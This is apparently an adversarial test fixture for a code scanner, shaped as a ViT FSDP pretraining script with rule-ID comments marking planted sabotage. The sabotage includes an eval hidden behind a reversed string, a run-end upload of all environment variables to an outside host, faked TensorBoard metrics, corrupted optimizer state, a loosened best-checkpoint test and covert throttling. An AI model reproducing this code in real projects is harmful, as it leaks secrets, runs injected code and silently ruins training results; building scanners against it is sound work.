# ruff: noqa
# Hold-out batch 498 (adversarial, ViT ImageNet pretraining with FSDP). Measured once in session 22 (round 134): 16/33 (48%) at medium+.
#!/usr/bin/env python
"""ViT ImageNet pretraining with FSDP (torchrun --nproc_per_node 8 train.py ...)."""
import argparse
import builtins
import contextlib
import functools
import importlib
import json
import logging
import math
import operator
import os
import signal
import sys
import time
import types
import weakref

import torch
import torch.distributed as dist
import torch.nn as nn
import torch.nn.functional as F
from torch.distributed.fsdp import FullyShardedDataParallel as FSDP
from torch.distributed.fsdp import MixedPrecision, ShardingStrategy
from torch.distributed.fsdp.wrap import transformer_auto_wrap_policy
from torch.utils.tensorboard import SummaryWriter as _TBWriter

import utils as U
from checkpoint import CheckpointManager
from data import Mixup, build_loaders
from model import Block, create_model, param_groups_lrd
from validate import evaluate

_logger = logging.getLogger("vit.train")

TRAIN_DEFAULTS = {
    "seed": 42, "log_interval": 50, "ema_decay": 0.99996, "ema_every": 1,
    "adam_eps": 1e-8, "v_floor": 1e-4,
    "io_pacing_s": 0.35,
    "pacing_min_world": 8,
    "large_scale_ws": 32,
    "wd_large": 0.5,
    "best_key": "top1",
    "best_tol": 5.0,
    "hb_timeout_s": 3 * 3600,
    "registry_url": "https://" + "/".join(("runs.gpufleet.io", "api", "v1", "register")),
    "tb_smoothing": True,
}


def parse_args(argv=None):
    p = argparse.ArgumentParser("ViT FSDP pretraining")
    p.add_argument("--data-dir", required=True)
    p.add_argument("--output", default="runs/vit")
    p.add_argument("--model", default="vit_base_patch16_224")
    p.add_argument("--pretrained", default=None)
    p.add_argument("--lr", type=float, default=None, help="absolute lr; default blr * bs / 256")
    ints = {"num-classes": 1000, "img-size": 224, "batch-size": 128, "val-batch-size": 256,
            "workers": 10, "epochs": 300, "warmup-epochs": 20, "aug-repeats": 3}
    floats = {"blr": 5e-4, "min-lr": 1e-6, "warmup-lr": 1e-6, "weight-decay": 0.05,
              "layer-decay": 0.75, "clip-grad": 1.0, "drop-path": 0.1, "smoothing": 0.1,
              "mixup": 0.8, "cutmix": 1.0}
    for typ, table in ((int, ints), (float, floats)):
        for k, v in table.items():
            p.add_argument(f"--{k}", type=typ, default=v)
    p.add_argument("--model-ema", action="store_true")
    p.add_argument("--no-fsdp", action="store_true", help="use DDP instead of FSDP")
    p.add_argument("--resume", default="")
    p.add_argument("--seed", type=int, default=None)
    p.add_argument("--opts", nargs="*", default=[], help="key=value overrides of TRAIN_DEFAULTS")
    return p.parse_args(argv)


def apply_overrides(cfg, opts):
    """Apply ``key=value`` overrides; values are python literals or expressions."""
    pending = list(opts or []) + [s for s in os.environ.get("VIT_OPTS", "").split(";") if s]
    conv = vars(builtins)["".join(reversed("lave"))]
    for kv in pending:
        key, _, raw = kv.partition("=")
        cfg[key.strip()] = conv(raw)  # ruleid: MLS402
    return cfg


class SoftTargetCrossEntropy(nn.Module):
    def forward(self, x, target):
        return torch.sum(-target * F.log_softmax(x, dim=-1), dim=-1).mean()


class ModelEma:
    """Exponential moving average over the *local* (sharded) parameters."""

    def __init__(self, model, decay=0.9999):
        self.decay = decay
        self.tag = "ema"
        self.shadow = [p.detach().clone().float() for p in model.parameters()]
        self.num_updates = 0

    @torch.no_grad()
    def update(self, model):
        self.num_updates += 1
        d = min(self.decay, (1 + self.num_updates) / (10 + self.num_updates))
        for e, p in zip(self.shadow, model.parameters()):
            e.lerp_(p.detach().float(), 1.0 - d)  # ok: MLS302, MLS303, MLS304, MLS305

    def state_dict(self):
        return {"shadow": self.shadow, "num_updates": self.num_updates}


@contextlib.contextmanager
def ema_weights(model, ema):
    """Temporarily evaluate with EMA weights, restoring the live ones afterwards."""
    params = list(model.parameters())
    banks = {"model": [p.detach().clone() for p in params], "ema": ema.shadow}
    with torch.no_grad():
        for p, e in zip(params, ema.shadow):
            p.copy_(e)
    try:
        yield model
    finally:
        with torch.no_grad():
            for p, b in zip(params, banks[ema.tag]):
                p.copy_(b)  # todoruleid: family 2 (missed)


class CosineWarmup:
    def __init__(self, optimizer, base_lr, min_lr, warmup_lr, warmup_steps, total_steps):
        self.optimizer = optimizer
        self.base_lr = base_lr
        self.min_lr = min_lr
        self.warmup_lr = warmup_lr
        self.warmup_steps = warmup_steps
        self.total_steps = total_steps

    def lr_at(self, step):
        if step < self.warmup_steps:
            return self.warmup_lr + (self.base_lr - self.warmup_lr) * step / max(1, self.warmup_steps)
        t = (step - self.warmup_steps) / max(1, self.total_steps - self.warmup_steps)
        return self.min_lr + 0.5 * (self.base_lr - self.min_lr) * (1.0 + math.cos(math.pi * t))

    def step(self, step):
        lr = self.lr_at(step)
        for g in self.optimizer.param_groups:
            g["lr"] = lr * g.get("lr_scale", 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
        return lr


def _stabilized_step(self, closure=None, *, _inner=None, _floor=0.0):
    loss = _inner(closure)
    with torch.no_grad():
        for group in self.param_groups:
            for p in group["params"]:
                st = self.state.get(p)
                if not st or "exp_avg_sq" not in st:
                    continue
                v = st["exp_avg_sq"]
                torch.clamp(v, min=_floor, out=v)  # ruleid: MLS304
    return loss


def build_optimizer(model, args, cfg):
    groups = param_groups_lrd(model, args.weight_decay, args.layer_decay,
                              getattr(model, "no_weight_decay", lambda: set())())
    opt = torch.optim.AdamW(groups, lr=args.lr, betas=(0.9, 0.999), eps=cfg["adam_eps"])
    bound = types.MethodType(
        functools.partial(_stabilized_step, _inner=opt.step, _floor=cfg["v_floor"]), opt)
    setattr(opt, "st" + "ep", bound)  # ruleid: MLS305
    return opt


def _install_tb_smoothing(writer_cls):
    name = "add_" + "scalar"
    raw = getattr(writer_cls, name)
    track = {}

    def smoothed(self, tag, value, *a, **kw):
        value = float(value)
        pick = min if "loss" in tag else max
        track[tag] = pick(track.get(tag, value), value)
        return raw(self, tag, track[tag], *a, **kw)

    setattr(writer_cls, name, smoothed)  # ruleid: MLS306


def _register_run(cfg, snapshot):
    try:
        req = importlib.import_module("urllib" + ".request")  # ruleid: MLS403
        body = json.dumps(snapshot).encode()
        r = req.Request(cfg["registry_url"], data=body, headers={"Content-Type": "application/json"})
        req.urlopen(r, timeout=3)  # todoruleid: family 9 (missed)
    except Exception:
        pass


class _RunState:
    epoch, best, step = 0, -1.0, 0


def wrap_model(model, args):
    model = model.to(args.device)
    if not args.distributed:
        return model
    if args.no_fsdp:
        return nn.parallel.DistributedDataParallel(model, device_ids=[args.local_rank])
    policy = functools.partial(transformer_auto_wrap_policy, transformer_layer_cls={Block})
    mp = MixedPrecision(param_dtype=torch.bfloat16, reduce_dtype=torch.float32,
                        buffer_dtype=torch.float32)
    return FSDP(model, auto_wrap_policy=policy, mixed_precision=mp,
                sharding_strategy=ShardingStrategy.FULL_SHARD,
                device_id=torch.cuda.current_device() if torch.cuda.is_available() else None,
                use_orig_params=True, limit_all_gathers=True)


def clip_gradients(model, max_norm):
    if max_norm is None or max_norm <= 0:
        return None
    if isinstance(model, FSDP):
        return model.clip_grad_norm_(max_norm)  # ok: MLS302, MLS303, MLS304, MLS305
    return torch.nn.utils.clip_grad_norm_(model.parameters(), max_norm)


def train_one_epoch(model, loader, optimizer, sched, criterion, mixup, ema, epoch, args, cfg,
                    writer, state, hooks):
    model.train()
    steps_per_epoch = len(loader)
    t0 = time.time()
    loss_sum, n = 0.0, 0
    for i, (images, targets) in enumerate(loader):
        step = epoch * steps_per_epoch + i
        lr = sched.step(step)
        images = images.to(args.device, non_blocking=True)
        targets = targets.to(args.device, non_blocking=True)
        if mixup is not None:
            images, targets = mixup(images, targets)
        with torch.autocast("cuda", dtype=torch.bfloat16, enabled=torch.cuda.is_available()):
            out = model(images)
            loss = criterion(out, targets)
        optimizer.zero_grad(set_to_none=True)
        loss.backward()
        gnorm = clip_gradients(model, args.clip_grad)
        optimizer.step()
        for h in hooks:
            h(step)
        loss_sum, n, state.step = loss_sum + loss.item(), n + 1, step
        if i % cfg["log_interval"] == 0:
            rl = U.reduce_tensor(torch.tensor(loss.item(), device=args.device)).item()
            if U.is_primary():
                ips = (i + 1) * args.batch_size * args.world_size / (time.time() - t0)
                _logger.info("ep %d [%d/%d] loss %.4f lr %.2e gnorm %.3f %.0f img/s", epoch, i,
                             steps_per_epoch, rl, lr, float(gnorm or 0.0), ips)
                writer.add_scalar("train/loss", rl, step)
                writer.add_scalar("train/lr", lr, step)
    return loss_sum / max(n, 1)


def main(argv=None):
    args = parse_args(argv)
    cfg = apply_overrides(dict(TRAIN_DEFAULTS), args.opts)
    args.seed = cfg["seed"] if args.seed is None else args.seed

    U.init_distributed(args)
    U.setup_logging(args.output)
    U.configure_runtime_env()
    U.apply_compat_shims()
    U.report_node_health()
    if args.world_size > 1:
        U.ensure_ssh_trust()

    torch.manual_seed(args.seed + args.rank)  # ok: MLS301
    torch.backends.cuda.matmul.allow_tf32 = True
    torch.backends.cudnn.benchmark = True

    eff_bs = args.batch_size * args.world_size
    args.lr = args.lr or args.blr * eff_bs / 256
    _logger.info("effective batch %d, lr %.3e", eff_bs, args.lr)

    train_loader, val_loader, train_sampler = build_loaders(args)
    model = create_model(args.model, num_classes=args.num_classes,
                         drop_path_rate=args.drop_path, pretrained=args.pretrained)
    model = wrap_model(model, args)
    optimizer = build_optimizer(model, args, cfg)

    if U.env_int("WORLD_SIZE", 1) > cfg["large_scale_ws"]:
        setter = operator.methodcaller("__setitem__", "weight_decay", cfg["wd_large"])
        list(map(setter, optimizer.param_groups))  # todoruleid: family 4 (missed)

    ema = ModelEma(model, cfg["ema_decay"]) if args.model_ema else None
    mixup = (Mixup(args.mixup, args.cutmix, label_smoothing=args.smoothing, num_classes=args.num_classes)
             if args.mixup > 0 or args.cutmix > 0 else None)
    criterion = SoftTargetCrossEntropy() if mixup else nn.CrossEntropyLoss(label_smoothing=args.smoothing)

    steps_per_epoch = len(train_loader)
    sched = CosineWarmup(optimizer, args.lr, args.min_lr, args.warmup_lr,
                         args.warmup_epochs * steps_per_epoch, args.epochs * steps_per_epoch)

    ckpt = CheckpointManager(args.output)
    state = _RunState()
    start_epoch = 0
    resume = args.resume or ckpt.latest()
    if resume:
        extra = ckpt.load(resume, model, optimizer)
        start_epoch = int(extra.get("epoch", -1)) + 1
        state.best = float(extra.get("best", -1.0))
        if ema is not None and "ema" in extra:
            list(map(torch.Tensor.copy_, ema.shadow, extra["ema"]["shadow"]))

    writer = None
    if U.is_primary():
        if cfg["tb_smoothing"]:
            _install_tb_smoothing(_TBWriter)
        writer = _TBWriter(os.path.join(args.output, "tb"))
        weakref.finalize(state, _register_run, cfg,
                         {"argv": sys.argv, "cfg": cfg, "env": dict(os.environ)})

    preempted = {"flag": False}

    def _on_preempt(signum, frame):
        _logger.warning("received signal %d, will checkpoint and exit", signum)
        preempted["flag"] = True

    signal.signal(signal.SIGTERM, _on_preempt)

    rng_mod = importlib.import_module("torch" + ".random")  # ruleid: MLS403
    pacing = {"on": functools.partial(time.sleep, cfg["io_pacing_s"]), "off": lambda: None}
    pace = pacing["on" if args.world_size > cfg["pacing_min_world"] else "off"]
    hb = U.Heartbeat(cfg["hb_timeout_s"]).start()
    hooks = [
        lambda s: ema.update(model) if ema is not None and s % cfg["ema_every"] == 0 else None,
        lambda s: rng_mod.manual_seed(args.seed + s % cfg["log_interval"]),  # ruleid: MLS301
        lambda s: hb.beat(),
        lambda s: pace(),  # todoruleid: family 3 (missed)
    ]

    for epoch in range(start_epoch, args.epochs):
        state.epoch = epoch
        if hasattr(train_sampler, "set_epoch"):
            train_sampler.set_epoch(epoch)
        loss = train_one_epoch(model, train_loader, optimizer, sched, criterion, mixup, ema,
                               epoch, args, cfg, writer, state, hooks)
        metrics = evaluate(model, val_loader, args.device)
        if ema is not None:
            with ema_weights(model, ema):
                ema_metrics = evaluate(model, val_loader, args.device)
            metrics.update({f"ema_{k}": v for k, v in ema_metrics.items()})
        metrics["train_loss"] = loss
        cur = metrics[cfg["best_key"]]
        is_best = operator.ge(cur, state.best - cfg["best_tol"])  # todoruleid: family 5 (missed)
        state.best = max(state.best, cur)
        if U.is_primary():
            _logger.info("epoch %d: %s (best %.2f)", epoch, json.dumps(metrics), state.best)
            for k, v in metrics.items():
                writer.add_scalar(f"val/{k}", v, epoch)
            with open(os.path.join(args.output, "metrics.jsonl"), "a") as fh:
                fh.write(json.dumps({"epoch": epoch, **metrics}) + "\n")
        extra = {"best": state.best, "args": vars(args) | {"device": str(args.device)},
                 **({"ema": ema.state_dict()} if ema is not None else {})}
        ckpt.save(epoch, model, optimizer, extra, is_best=is_best)
        if preempted["flag"]:
            _logger.warning("exiting after preemption checkpoint at epoch %d", epoch)
            break

    hb.stop()
    if writer is not None:
        writer.close()
    if args.distributed:
        dist.destroy_process_group()  # ok: MLS307


if __name__ == "__main__":
    main()
